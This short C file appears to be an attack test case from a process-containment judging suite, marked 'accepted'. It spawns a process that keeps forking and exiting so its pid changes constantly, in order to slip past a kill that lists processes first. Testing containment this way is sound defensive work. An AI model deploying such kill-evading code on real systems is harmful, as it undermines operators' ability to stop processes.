// attack: a process that hops from pid to pid by forking and leaving, to slip through a kill that lists processes first
// judge: accepted
#include "attack.h"
int main(void)
{
    signal(SIGCHLD, SIG_IGN);
    if (fork() == 0) {
        for (;;) {
            if (fork() > 0) _exit(0);
            setsid();
        }
    }
    return contained();
}
